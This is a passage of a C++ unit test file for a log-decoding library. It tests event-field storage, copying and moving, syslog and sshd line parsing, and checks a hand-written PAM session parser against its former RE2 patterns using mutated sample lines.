  DetectionFields d = f.Snapshot();
  EXPECT_EQ(d.at(with_nul), with_nul);
}

TEST(EventFieldsTest, EraseAndCopies) {
  EventFields f;
  f.insert_or_assign("threat.a", "1");
  f.insert_or_assign("x", "2");
  f.insert_or_assign("threat.b", "3");
  f.insert_or_assign("y", "4");
  EXPECT_EQ(f.erase_prefix("threat."), 2u);
  f.erase("x");
  EXPECT_EQ(f.size(), 1u);
  EXPECT_EQ(f.at("y"), "4");
  EXPECT_EQ(f.find("threat.a"), f.end());
  EventFields copy = f;
  f.insert_or_assign("y", "changed");
  f.clear();
  f.insert_or_assign("z", "overwrites the arena");
  EXPECT_EQ(copy.size(), 1u);
  EXPECT_EQ(copy.at("y"), "4");
}

// Log-source lists keep unique names in order; literals are views, other
// names copies that outlive their source, also in copies and after moves.
TEST(LogSourceListTest, UniqueOrderedAndOwned) {
  LogSourceList l;
  l.AddLiteral("linux");
  l.AddLiteral("linux");
  std::string program = "sshd";
  l.Add(program);
  l.Add("sshd");
  l.AddLiteral("auth");
  program = "changed";  // the list holds its own copy
  EXPECT_EQ(l.ToVector(), (std::vector<std::string>{"linux", "sshd", "auth"}));
  EXPECT_TRUE(l.contains("sshd"));
  EXPECT_FALSE(l.contains("ssh"));
  EXPECT_FALSE(l.contains(""));
  LogSourceList copy = l;
  l.clear();
  EXPECT_TRUE(l.empty());
  for (int i = 0; i < 40; ++i) l.Add(absl::StrCat("name", i));  // more than any decoder adds
  EXPECT_EQ(l.size(), 40u);
  EXPECT_EQ(*(l.end() - 1), "name39");
  EXPECT_EQ(copy.ToVector(), (std::vector<std::string>{"linux", "sshd", "auth"}));
  LogSourceList moved = std::move(l);
  EXPECT_EQ(moved.size(), 40u);
  EXPECT_EQ(*moved.begin(), "name0");
  // A syslog line's lists, through DecodeLine.
  Event ev;
  ASSERT_TRUE(DecodeLine("Jun 14 15:16:01 combo CRON[1]: (root) CMD (run-parts /etc/cron.hourly)",
                         "", InputFormat::kAuto, &ev)
                  .ok());
  EXPECT_EQ(ev.products.ToVector(), std::vector<std::string>{"linux"});
  EXPECT_TRUE(Has(ev.services, "syslog"));
  EXPECT_TRUE(Has(ev.services, "cron"));  // lower-cased program name
}

// The table grows past its first sizes, and clear() after a large event (few
// fields in a large table: only their slots are zeroed) leaves nothing behind.
TEST(EventFieldsTest, GrowClearAndReuseAfterLargeEvent) {
  EventFields f;
  for (int round = 0; round < 3; ++round) {
    const int n = round == 1 ? 5 : 300;  // large, small in the large table, large again
    for (int i = 0; i < n; ++i) {
      f.insert_or_assign_static("k", EventFields::Hash("k"), std::to_string(round));
      f.insert_or_assign(absl::StrCat("r", round, ".", i), std::to_string(i));
    }
    ASSERT_EQ(f.size(), static_cast<size_t>(n) + 1) << round;
    EXPECT_EQ(f.at("k"), std::to_string(round));
    for (int i = 0; i < n; ++i) {
      ASSERT_EQ(f.at(absl::StrCat("r", round, ".", i)), std::to_string(i));
    }
    for (int other = 0; other < 3; ++other) {
      if (other == round) continue;
      EXPECT_EQ(f.find(absl::StrCat("r", other, ".0")), f.end());
    }
    f.clear();
    EXPECT_TRUE(f.empty());
    EXPECT_EQ(f.find("k"), f.end());
  }
}

// A moved-from EventFields is empty and can be filled again.
TEST(EventFieldsTest, MovedFromIsEmptyAndUsable) {
  EventFields f;
  for (int i = 0; i < 40; ++i) f.insert_or_assign(absl::StrCat("f", i), absl::StrCat("v", i));
  EventFields g = std::move(f);
  EXPECT_EQ(g.size(), 40u);
  EXPECT_EQ(g.at("f39"), "v39");
  EXPECT_TRUE(f.empty());  // NOLINT(bugprone-use-after-move): the moved-from state is defined
  EXPECT_EQ(f.find("f1"), f.end());
  f.insert_or_assign("a", "1");
  EXPECT_EQ(f.at("a"), "1");
  EventFields h;
  h.insert_or_assign("old", "x");
  h = std::move(g);
  EXPECT_EQ(h.at("f0"), "v0");
  EXPECT_EQ(h.find("old"), h.end());
  EXPECT_TRUE(g.empty());  // NOLINT(bugprone-use-after-move)
  g.insert_or_assign("old", "y");
  EXPECT_EQ(g.at("old"), "y");
  EXPECT_EQ(h.size(), 40u);
}

// Snapshot() copies the borrowed line and the arena in one piece each and keeps
// literal names as views: every name and value reads back the same after the
// line, the fields and the event are gone, in order, on one block and on several.
TEST(EventFieldsTest, SnapshotOwnsBorrowedAndCopiedText) {
  for (const size_t copied : {size_t{0}, size_t{10}, size_t{3000}, size_t{9000}}) {
    SCOPED_TRACE(copied);
    auto line = std::make_unique<std::string>(
        "Dec 10 07:07:38 LabSZ sshd[24206]: Failed password for root from 183.62.140.253 port "
        "34 ssh2");
    Event ev;
    ev.borrow_line = true;
    ASSERT_TRUE(DecodeLine(*line, "/var/log/auth.log", InputFormat::kAuto, &ev).ok());
    // Text that is neither in the line nor a literal: copied into the arena (several
    // blocks of 4 KiB once more than a block is copied).
    std::vector<std::pair<std::string, std::string>> extra;
    for (size_t done = 0, i = 0; done < copied; ++i) {
      std::string value(std::min<size_t>(700, copied - done), static_cast<char>('a' + i % 26));
      done += value.size();
      extra.emplace_back("extra." + std::to_string(i), std::move(value));
    }
    for (const auto& [k, v] : extra) ev.fields.insert_or_assign(k, v);
    ev.fields.insert_or_assign("user.name", "overwritten");  // a stale arena value stays behind
    ev.fields.insert_or_assign("user.name", std::string_view(*line).substr(line->find("root"), 4));
    std::vector<std::pair<std::string, std::string>> expected;
    for (const auto& [k, v] : ev.fields) expected.emplace_back(k, v);
    const DetectionFields snapshot = ev.fields.Snapshot();
    // Nothing of the snapshot may point into the line or the event.
    line->assign(line->size(), '#');
    line.reset();
    ev.Clear();
    ASSERT_TRUE(DecodeLine("x", "", InputFormat::kAuto, &ev).ok());
    ev = Event();
    ASSERT_EQ(snapshot.size(), expected.size());
    size_t i = 0;
    for (const auto& [k, v] : snapshot) {
      EXPECT_EQ(k, expected[i].first);
      EXPECT_EQ(v, expected[i].second) << k;
      ++i;
    }
    EXPECT_EQ(snapshot.at("user.name"), "root");
    EXPECT_EQ(snapshot.at("source.ip"), "183.62.140.253");
    EXPECT_EQ(snapshot.at("log.file.path"), "/var/log/auth.log");
    EXPECT_EQ(snapshot.at("event.outcome"), "failure");
  }
}

TEST(EventFieldsTest, BorrowedTextIsViewedNotCopied) {
  const std::string line = "user=root from 10.0.0.1";
  const std::string_view text = line;
  EventFields f;
  f.BorrowFrom(text);
  f.insert_or_assign("user.name", text.substr(5, 4));
  const std::string outside = "10.0.0.1";
  f.insert_or_assign("source.ip", outside);
  EXPECT_EQ(f.at("user.name").data(), line.data() + 5);  // a view of the line
  EXPECT_NE(f.at("source.ip").data(), outside.data());   // a copy
  // A copy of the fields owns its values.
  EventFields copy = f;
  EXPECT_NE(copy.at("user.name").data(), line.data() + 5);
  EXPECT_EQ(copy.at("user.name"), "root");
  // Event::Clear turns borrowing off: later values are copied.
  Event ev;
  ev.fields.BorrowFrom(text);
  ev.Clear();
  ev.fields.insert_or_assign("k", text.substr(0, 4));
  EXPECT_NE(ev.fields.at("k").data(), line.data());
  // DecodeLine borrows only when asked to (the Matcher does).
  Event borrowing;
  borrowing.borrow_line = true;
  const std::string sshd =
      "Dec 10 07:07:38 LabSZ sshd[24206]: Failed password for root from 183.62.140.253 port 34 "
      "ssh2";
  ASSERT_TRUE(DecodeLine(sshd, "", InputFormat::kAuto, &borrowing).ok());
  const std::string_view host = borrowing.fields.at("host.hostname");
  EXPECT_EQ(host, "LabSZ");
  EXPECT_GE(host.data(), sshd.data());
  EXPECT_LE(host.data() + host.size(), sshd.data() + sshd.size());
  // The program name as a service: a view of the borrowed line, a copy otherwise.
  EXPECT_EQ(borrowing.services.ToVector(), (std::vector<std::string>{"syslog", "sshd", "auth"}));
  EXPECT_EQ(borrowing.services.begin()[1].data(), sshd.data() + 22);
  Event copying;
  ASSERT_TRUE(DecodeLine(sshd, "", InputFormat::kAuto, &copying).ok());
  EXPECT_EQ(copying.services.ToVector(), (std::vector<std::string>{"syslog", "sshd", "auth"}));
  EXPECT_NE(copying.services.begin()[1].data(), sshd.data() + 22);
  EXPECT_EQ(copying.fields.at("host.hostname"), "LabSZ");
  EXPECT_FALSE(copying.fields.at("host.hostname").data() >= sshd.data() &&
               copying.fields.at("host.hostname").data() < sshd.data() + sshd.size());
  EXPECT_EQ(copying.fields.ToMap(), borrowing.fields.ToMap());
}

}  // namespace
}  // namespace siper::rules

namespace siper::rules {
namespace {

// pam_unix session lines are parsed by hand; the result must be exactly that of
// the RE2 patterns the decoder used before (and still uses for non-ASCII text).
std::map<std::string, std::string> PamSessionByRe2(const std::string& msg) {
  static const RE2 kOpen(
      R"(session opened for user (\S+?)(?:\(uid=\d+\))?(?: by (\S*?)(?:\(uid=(\d+)\))?)?)");
  static const RE2 kClose(R"(session closed for user (\S+?)(?:\(uid=\d+\))?)");
  std::string a, b, c;
  std::map<std::string, std::string> out;
  if (RE2::FullMatch(msg, kOpen, &a, &b, &c)) {
    out = {{"event.action", "session_opened"}, {"user.name", a}};
    if (!b.empty()) out["source.user.name"] = b;
    if (!c.empty()) out["source.user.id"] = c;
  } else if (RE2::FullMatch(msg, kClose, &a)) {
    out = {{"event.action", "session_closed"}, {"user.name", a}};
  }
  return out;
}

void ExpectPamSessionSameAsRe2(const std::string& msg) {
  const std::map<std::string, std::string> want = PamSessionByRe2(msg);
  Event ev;
  const bool took = DecodePam("sshd", msg, &ev);
  if (want.empty()) {
    const std::string action = F(ev, "event.action");
    EXPECT_TRUE(action != "session_opened" && action != "session_closed")
        << "RE2 does not match, the decoder took it as " << action << ": " << msg;
    return;
  }
  EXPECT_TRUE(took) << msg;
  for (const auto& [k, v] : want) EXPECT_EQ(F(ev, k), v) << k << " of " << msg;
  for (const char* k : {"source.user.name", "source.user.id"}) {
    if (want.count(k) == 0) {
      EXPECT_EQ(F(ev, k), "<absent>") << k << " of " << msg;
    }
  }
}

TEST(PamSessionParserTest, SameAsTheRe2Patterns) {
  const std::vector<std::string> seeds = {
      "session opened for user root by (uid=0)",
      "session opened for user test by (uid=509)",
      "session opened for user cyrus by (uid=0)",
      "session opened for user bob(uid=1000) by alice(uid=1001)",
      "session opened for user bob(uid=1000) by (uid=0)",
      "session opened for user bob(uid=1000)",
      "session opened for user bob",
      "session opened for user (uid=0)",
      "session opened for user (uid=0) by (uid=0)",
      "session opened for user a(uid=1)(uid=2) by b(uid=3)(uid=4)",
      "session opened for user a(uid=) by b(uid=)",
      "session opened for user a(uid=x) by b(uid=12x)",
      "session opened for user root by ",
      "session opened for user root by",
      "session opened for user root  by (uid=0)",
      "session opened for user root by (uid=0) ",
      "session opened for user root by a b",
      "session opened for user root\tby (uid=0)",
      "session opened for user root\nby (uid=0)",
      "session opened for user ",
      "session opened for user",
      "session opened for user r\x0bx by (uid=0)",
      "session opened for user r\xc3\xa9 by (uid=0)",
      "session opened for user r\xff by (uid=0)",
      "session closed for user root",
      "session closed for user root(uid=0)",
      "session closed for user (uid=0)",
      "session closed for user root by (uid=0)",
      "session closed for user root ",
      "session closed for user ",
      "session closed for user \xc3\xa9(uid=1)",
      "session closed for user " + std::string(5000, 'u') + "(uid=1)",
      "session opened for user " + std::string(5000, 'u') + " by " + std::string(5000, 'b'),
  };
  for (const std::string& s : seeds) ExpectPamSessionSameAsRe2(s);
  // Mutations: every byte of each seed dropped, and replaced by each of a few
  // bytes that matter to the patterns.
  for (const std::string& s : seeds) {
    if (s.size() > 80) continue;
    for (size_t i = 0; i < s.size(); ++i) {
      std::string dropped = s;
      dropped.erase(i, 1);
      ExpectPamSessionSameAsRe2(dropped);
      for (char c : {' ', '(', ')', '=', '0', 'u', '\t', '\r'}) {
        std::string changed = s;
        changed[i] = c;
        ExpectPamSessionSameAsRe2(changed);
      }
    }
  }
}

TEST(PamSessionParserTest, SameAsTheRe2PatternsOnLoghub) {
  SIPER_REQUIRE_SHARED("logs/loghub/Linux_2k.log");
  int checked = 0;
  std::ifstream in(testing::SharedData() / "logs/loghub/Linux_2k.log");
  std::string line;
  while (std::getline(in, line)) {
    Event ev;
    ASSERT_TRUE(DecodeLine(line, "", InputFormat::kAuto, &ev).ok());
    const std::string message = F(ev, "message");
    if (!message.starts_with("session opened") && !message.starts_with("session closed")) continue;
    ExpectPamSessionSameAsRe2(message);
    EXPECT_EQ(F(ev, "event.action"), PamSessionByRe2(message)["event.action"]) << line;
    ++checked;
  }
  EXPECT_GT(checked, 100);
}

}  // namespace
}  // namespace siper::rules
